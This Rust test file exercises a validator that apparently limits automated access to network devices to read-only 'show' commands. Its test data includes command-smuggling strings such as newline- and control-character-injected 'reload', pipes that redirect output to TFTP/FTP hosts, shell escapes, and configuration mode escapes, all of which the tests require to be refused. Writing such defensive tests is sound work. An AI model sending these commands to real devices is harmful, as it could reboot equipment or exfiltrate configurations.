use proptest::prelude::*;

use super::*;
use crate::platform::Platforms;

fn each_platform(check: impl Fn(&Platform)) {
    let platforms = Platforms::embedded();
    for name in platforms.names() {
        check(&platforms.get(name).unwrap());
    }
}

fn refusal(platform: &str, command: &str) -> Refusal {
    let platforms = Platforms::embedded();
    let platform = platforms.get(&platforms.resolve(platform).unwrap()).unwrap();
    permit_read(&platform, command).expect_err(command)
}

#[test]
fn every_platform_passes_and_refuses_its_own_cases() {
    each_platform(|platform| {
        for command in &platform.read.allowed {
            let permitted = permit_read(platform, command);
            assert_eq!(permitted.unwrap().as_str(), command, "{}", platform.name);
        }
        for command in &platform.read.refused {
            assert!(permit_read(platform, command).is_err(), "{}: {command:?}", platform.name);
        }
    });
}

/// The tricks of other servers' advisories, none of which may pass anywhere.
#[test]
fn smuggling_tricks_are_refused_on_every_platform() {
    let tricks = [
        "",
        " ",
        "\n",
        "show version\nreload",
        "show version\rreload",
        "show version\r\nreload",
        "show version\u{b}reload",
        "show version\u{c}reload",
        "show version\u{85}reload",
        "show version\u{2028}reload",
        "show version\u{2029}reload",
        "show version\0reload",
        "show version; reload",
        "show version && reload",
        "show version & reload",
        "show version || reload",
        "show version | redirect tftp://192.0.2.1/x",
        "show version | tee flash:x",
        "show version | append flash:x",
        "show version | save x",
        "show version | request message all message x",
        "show version > bootflash:x",
        "show version >> x",
        "show version < x",
        "show version | utility bash",
        "show version | sed s/a/b/",
        "show version | awk 1",
        "show version | sh",
        "show $(reload)",
        "show `reload`",
        "show ${x}",
        "bash",
        "start shell",
        "guestshell",
        "tclsh",
        "python",
        "rel",
        "conf t",
        "req sys reb",
        "wr er",
        "do reload",
        "run request system reboot",
        "end",
        "exit",
        "enable",
        "configure",
        "show version\u{3}",
        "show version\u{4}",
        "show version\u{1a}",
        "show version\u{1b}[A",
        "show version\u{16}",
        "show version\u{15}reload",
        "show version\u{17}",
        "show version\u{7f}",
        "show version\t",
        "show version?",
        "show ?",
        "REQUEST system reboot",
        "re\u{200b}load",
        "ｓｈｏｗ version",
        "\u{ff53}how version",
        "\"reload\"",
        "\\reload",
        "show \\reload",
        "! show version",
        "# show version",
        "show! version",
        "debug all",
        "monitor traffic",
        "test crash",
        "set cli screen-length 0",
        "terminal monitor",
        "ssh 192.0.2.1",
        "telnet 192.0.2.1",
        "ping 192.0.2.1",
        "copy running-config tftp:",
        "clear counters",
        "show tech-support",
        "show te",
        "| include x",
        "show version |",
        "show version | ",
        "show version | | include x",
        "show version | include",
        "|",
        "show|include x|",
        "show file information ftp://192.0.2.9/x",
        "show file information tftp:",
        "show archive config differences nvram:startup-config TFTP://192.0.2.9/x",
        "show configuration | compare ftp://192.0.2.9/x",
        "show log scp:x",
    ];
    let mut passed = Vec::new();
    let platforms = Platforms::embedded();
    for name in platforms.names() {
        let platform = platforms.get(name).unwrap();
        let through = tricks.iter().filter(|trick| permit_read(&platform, trick).is_ok());
        passed.extend(through.map(|trick| format!("{name}: {trick}")));
    }
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn a_refusal_says_what_and_where() {
    let cases = [
        ("cisco_ios", "show version\nreload", "cmd_control_char", "character 13 is U+000A"),
        ("cisco_ios", "show ver?", "cmd_help_char", "character 9, `?`"),
        ("cisco_ios", "reload", "cmd_not_read_only", "allowed: show"),
        ("cisco_ios", "show run | tee x", "cmd_pipe_target", "include"),
        ("cisco_ios", "show run | include ((((a", "cmd_filter_arg", "unbalanced"),
        ("cisco_ios", "sh tech", "cmd_denied", "show tech-support"),
        ("juniper_junos", "show log x | match \"a", "cmd_metachar", "balanced"),
    ];
    for (platform, command, reason, part) in cases {
        let refusal = refusal(platform, command);
        assert_eq!(refusal.reason(), reason, "{command}");
        assert!(refusal.to_string().contains(part), "{refusal}");
    }
    let long = format!("show {}", "x".repeat(5000));
    assert_eq!(refusal("cisco_ios", &long), Refusal::TooLong { length: 5005, limit: 254 });
}

#[test]
fn configurations_are_recognised_also_abbreviated() {
    let platforms = Platforms::embedded();
    let ios = platforms.get(&platforms.resolve("cisco_ios").unwrap()).unwrap();
    for command in ["sh run | section bgp", "sh ru", "sh st", " show running-config"] {
        assert!(permit_read(&ios, command).unwrap().reads_configuration(), "{command}");
    }
    assert!(!permit_read(&ios, "show version").unwrap().reads_configuration());
}

fn configuration(platform: &str, text: &str) -> Result<Vec<(usize, String)>, ConfigurationRefusal> {
    let platforms = Platforms::embedded();
    let platform = platforms.get(&platforms.resolve(platform).unwrap()).unwrap();
    let permitted = permit_configuration(platform.change.as_ref().unwrap(), text)?;
    let shown = |s: &Statement| (s.depth, s.text.as_str().to_owned());
    Ok(permitted.statements().iter().map(shown).collect())
}

#[test]
fn configuration_is_read_by_its_indentation() {
    let text = "! a comment\nrouter bgp 65001\n neighbor 192.0.2.1 shutdown\n !\n address-family ipv4\n  \
                network 192.0.2.0\n exit-address-family\nexit\nip route 192.0.2.0/24 Null0\n";
    let expected = [
        (0, "router bgp 65001"),
        (1, "neighbor 192.0.2.1 shutdown"),
        (1, "address-family ipv4"),
        (2, "network 192.0.2.0"),
        (0, "ip route 192.0.2.0/24 Null0"),
    ];
    let found = configuration("frr", text).unwrap();
    let found: Vec<_> = found.iter().map(|(depth, text)| (*depth, text.as_str())).collect();
    assert_eq!(found, expected);
}

#[test]
fn configuration_that_leaves_its_mode_is_refused_with_its_line() {
    for (platform, text, reason) in [
        ("cisco_ios", "interface Gi1\n shutdown\nend\nreload", "cfg_mode_escape"),
        ("cisco_ios", "do reload", "cfg_mode_escape"),
        ("cisco_ios", "wr", "cfg_mode_escape"),
        ("cisco_ios", "hostname r\u{1a}", "cfg_control_char"),
        ("cisco_ios", "hostname r1\rreload", "cfg_control_char"),
        ("cisco_ios", "hostname r\t1", "cfg_control_char"),
        ("cisco_ios", "interface ?", "cfg_help_char"),
        ("cisco_ios", "! only a comment", "plan_empty"),
        ("cisco_ios", "  shutdown", "cfg_syntax"),
        ("cisco_ios", "banner motd #\nhello", "cfg_banner"),
        ("cisco_ios", "banner motd #\nhello # reload\n", "cfg_banner"),
        ("arista_eos", "commit", "cfg_mode_escape"),
        ("arista_eos", "bash timeout 1 ls", "cfg_mode_escape"),
        ("juniper_junos", "run request system reboot", "cfg_wrong_syntax"),
        ("juniper_junos", "commit", "cfg_wrong_syntax"),
        ("juniper_junos", "system { host-name x; }", "cfg_wrong_syntax"),
        ("juniper_junos", "edit system", "cfg_wrong_syntax"),
        ("frr", "write memory", "cfg_mode_escape"),
    ] {
        let refusal = configuration(platform, text).expect_err(text);
        assert_eq!(refusal.reason(), reason, "{text:?}: {refusal}");
    }
    let refusal = configuration("cisco_ios", "interface Gi1\n shutdown\nend").unwrap_err();
    assert!(refusal.to_string().starts_with("line 3:"), "{refusal}");
    let banner = configuration("cisco_ios", "banner motd #\n Keep out\n#\nhostname r1").unwrap();
    assert_eq!(banner[0].1, "banner motd #\n Keep out\n#");
}

proptest! {
    #[test]
    fn whatever_passes_is_printable_and_starts_with_a_reading_verb(command in "\\PC{0,40}|show [ -~]{0,40}") {
        each_platform(|platform| {
            if let Ok(permitted) = permit_read(platform, &command) {
                let text = permitted.as_str();
                assert_eq!(text, command);
                assert!(text.bytes().all(|b| (b' '..=b'~').contains(&b)));
                let verb = text.split_whitespace().next().unwrap();
                assert!("show".starts_with(&verb.to_ascii_lowercase()) && verb.len() >= 2);
                assert!(!text.contains([';', '&', '<', '>', '$', '`', '\\', '?', '!']));
            }
        });
    }
}
